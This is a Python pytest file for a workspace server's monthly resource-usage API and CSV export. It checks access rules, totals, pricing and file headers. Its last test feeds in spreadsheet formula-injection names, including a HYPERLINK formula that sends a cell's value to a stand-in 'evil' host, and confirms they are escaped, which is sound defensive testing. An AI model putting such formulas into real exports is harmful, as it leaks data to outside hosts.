"""What environments took in a month: who is told of which, sums, and a file that a spreadsheet reads as it is meant."""

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from devworkspace.core.prices import Prices
from devworkspace.server.api.monthly import HEAD
from tests.server.cluster import API, DEMO, Wired, put, wired
from tests.server.support import ADMIN, Answer, read

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
TABLE, FILE = f"{API}/usage", f"{API}/usage.csv"
HOUR = 3600


@pytest.fixture
async def all_wired(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Wired]:
    monkeypatch.setattr("devworkspace.server.rooms.now", lambda: NOW)
    async with wired(tmp_path) as made:
        yield made


def hours(running: int, *, month: str = "2026-11") -> dict[str, Any]:
    """With half a core, 1 GiB, and 10 GiB of disk for ten times as long."""
    return {
        "month": month,
        "runningSeconds": running * HOUR,
        "cpuMillicoreSeconds": running * HOUR * 500,
        "memoryMebibyteSeconds": running * HOUR * 1024,
        "storageMebibyteSeconds": running * HOUR * 102400,
    }


def took(running: int, **more: Any) -> dict[str, Any]:
    """The status of one that was stopped at noon."""
    return {"usage": {"since": "2026-11-25T12:00:00Z", "months": [hours(running, **more)]}}


async def get(wired: Wired, path: str) -> Answer:
    return await wired.browser.get(wired.server.origin + path)


async def rows_of(wired: Wired, query: str = "") -> list[tuple[str, str, str, int, float]]:
    found = await read(wired.server, wired.browser, TABLE + query)
    return [
        (row["namespace"], row["owner"], row["environment"], row["environments"], row["usage"]["runningHours"])
        for row in found["items"]
    ]


async def cells_of(wired: Wired, query: str = "") -> list[list[str]]:
    answer = await get(wired, FILE + query)
    assert answer.status == 200
    assert answer.text.startswith("\ufeff"), "spreadsheets take other files for their own code page"
    return list(csv.reader(io.StringIO(answer.text[1:], newline=""), strict=True))


async def test_only_what_may_be_opened_counts(all_wired: Wired) -> None:
    put(all_wired, name="mine", **took(1))
    put(all_wired, name="granted", owner="li.wei", **took(2))
    put(all_wired, name="foreign", owner="li.wei", **took(4))
    all_wired.server.rbac.grants.add((ADMIN, "team", "granted"))
    assert await rows_of(all_wired) == [("team", ADMIN, "mine", 1, 1.0), ("team", "li.wei", "granted", 1, 2.0)]
    assert await rows_of(all_wired, "?by=namespace") == [("team", "", "", 2, 3.0)]
    assert [row[3] for row in await cells_of(all_wired)] == ["environment", "mine", "granted"]
    all_wired.server.rbac.broken = True
    assert await rows_of(all_wired) == [("team", ADMIN, "mine", 1, 1.0)]
    all_wired.server.rbac.broken = False
    all_wired.server.rbac.grants.add((ADMIN, "", ""))
    assert len(await rows_of(all_wired)) == 3, "positive control"


async def test_strangers_get_nothing(all_wired: Wired) -> None:
    put(all_wired, **took(1))
    async with all_wired.server.browser() as stranger:
        for path in (TABLE, FILE):
            answer = await stranger.get(all_wired.server.origin + path)
            assert (answer.status, answer.content_type) == (401, "application/problem+json")


async def test_sums_by_owner_with_a_total(all_wired: Wired) -> None:
    for name, owner, running in (("a", "li.wei", 1), ("b", "li.wei", 2), ("c", "wang.fang", 4)):
        put(all_wired, name=name, owner=owner, **took(running))
    put(all_wired, name="never", owner="wang.fang")
    all_wired.server.rbac.grants.add((ADMIN, "", ""))
    found = await read(all_wired.server, all_wired.browser, f"{TABLE}?by=owner")
    assert found == {
        "month": "2026-11",
        "months": ["2026-11", "2026-10", "2026-09"],
        "currency": None,
        "items": [
            {
                "namespace": "",
                "owner": owner,
                "environment": "",
                "environments": 2,
                "usage": {
                    "month": "2026-11",
                    "runningHours": running,
                    "cpuHours": running / 2,
                    "memoryGibHours": running,
                    "storageGibHours": running * 100,
                    "cost": None,
                },
            }
            for owner, running in (("li.wei", 3.0), ("wang.fang", 4.0))
        ],
        "total": {
            "month": "2026-11",
            "runningHours": 7.0,
            "cpuHours": 3.5,
            "memoryGibHours": 7.0,
            "storageGibHours": 700.0,
            "cost": None,
        },
    }
    assert await rows_of(all_wired, "?owner=li.wei&namespace=team") == [
        ("team", "li.wei", "a", 1, 1.0),
        ("team", "li.wei", "b", 1, 2.0),
    ]
    assert await rows_of(all_wired, "?namespace=other") == []


async def test_what_runs_counts_up_to_now(all_wired: Wired) -> None:
    now = {"running": True, "cpuMillicores": 2000, "memoryMebibytes": 512, "storageMebibytes": 1024}
    put(all_wired, usage={"since": "2026-11-25T09:30:00Z", "now": now, "months": [hours(1)]})
    found = await read(all_wired.server, all_wired.browser, DEMO + "/usage")
    assert found["months"] == [
        {
            "month": "2026-11",
            "runningHours": 3.5,
            "cpuHours": 5.5,
            "memoryGibHours": 2.25,
            "storageGibHours": 102.5,
            "cost": None,
        },
        *(
            {
                "month": month,
                "runningHours": 0.0,
                "cpuHours": 0.0,
                "memoryGibHours": 0.0,
                "storageGibHours": 0.0,
                "cost": None,
            }
            for month in ("2026-10", "2026-09")
        ),
    ]


async def test_an_earlier_month(all_wired: Wired) -> None:
    put(all_wired, **took(5, month="2026-10"))
    assert [row[-1] for row in await rows_of(all_wired, "?month=2026-10")] == [5.0]
    assert [row[-1] for row in await rows_of(all_wired)] == [0.0]


@pytest.mark.parametrize(
    ("query", "status"),
    [("month=2026-08", 422), ("month=2026-12", 422), ("month=11", 422), ("by=team", 422), ("sum=1", 400)],
)
async def test_what_cannot_be_answered_is_refused(all_wired: Wired, query: str, status: int) -> None:
    for path in (TABLE, FILE):
        assert (await get(all_wired, f"{path}?{query}")).status == status
    kept = (await get(all_wired, f"{TABLE}?month=2026-08")).json()
    assert kept["errors"][0]["field"] == "month"
    assert "2026-11, 2026-10, 2026-09" in kept["detail"]


async def test_the_file_is_a_table_to_be_saved(all_wired: Wired) -> None:
    put(all_wired, **took(3))
    answer = await get(all_wired, f"{FILE}?by=environment")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    name = 'attachment; filename="environments-2026-11-by-environment.csv"'
    assert answer.headers["Content-Disposition"] == name
    assert (answer.headers["Cache-Control"], answer.headers["X-Content-Type-Options"]) == ("no-store", "nosniff")
    assert answer.text == (
        "\ufeffmonth,namespace,owner,environment,environments,"
        "runningHours,cpuHours,memoryGibHours,storageGibHours,cost,currency\r\n"
        "2026-11,team,admin,demo,1,3.000,1.500,3.000,300.000,,\r\n"
    )


async def test_with_prices_it_is_told_in_money_as_well(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("devworkspace.server.rooms.now", lambda: NOW)
    prices = Prices(currency="CNY", cpu_hour=0.2, memory_gib_hour=0.1, storage_gib_hour=0.001)
    async with wired(tmp_path, prices=prices) as all_wired:
        put(all_wired, **took(3))
        found = await read(all_wired.server, all_wired.browser, TABLE)
        # 1.5 core hours, 3 GiB hours of memory, 300 of disk.
        assert (found["currency"], found["total"]["cost"], found["items"][0]["usage"]["cost"]) == ("CNY", 0.9, 0.9)
        own = await read(all_wired.server, all_wired.browser, DEMO + "/usage")
        assert (own["currency"], [month["cost"] for month in own["months"]]) == ("CNY", [0.9, 0.0, 0.0])
        assert (await cells_of(all_wired))[1][-2:] == ["0.9000", "CNY"]


@pytest.mark.parametrize(
    "owner",
    [
        '=HYPERLINK("http://evil/?"&A1,"see")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        'say "hi", twice',
        "two\r\nlines",
        "\u674e\u4f1f",
    ],
)
async def test_no_name_becomes_a_formula_or_another_cell(all_wired: Wired, owner: str) -> None:
    all_wired.server.rbac.grants.add((ADMIN, "", ""))
    put(all_wired, owner=owner, **took(1))
    (head, row) = await cells_of(all_wired, "?by=owner")
    assert head == list(HEAD)
    assert len(row) == len(HEAD)
    plain = owner[0] in "s\u674et"
    assert row[2] == (owner if plain else f"'{owner}")
